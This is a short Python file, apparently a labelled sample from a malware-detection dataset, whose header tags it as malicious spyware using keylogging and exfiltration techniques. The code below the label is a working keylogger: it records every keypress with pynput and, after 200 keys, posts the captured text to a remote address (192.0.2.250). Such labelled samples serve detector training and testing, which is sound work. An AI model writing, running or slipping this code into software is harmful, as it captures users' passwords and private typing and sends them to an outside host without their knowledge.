# label: malicious family=spy techniques=T1056.001,T1041 lines=6,8,10
from pynput import keyboard
import requests, threading
buf = []
def on_press(k):
    buf.append(str(k))
    if len(buf) > 200:
        requests.post("http://192.0.2.250/k", data="".join(buf))
        buf.clear()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
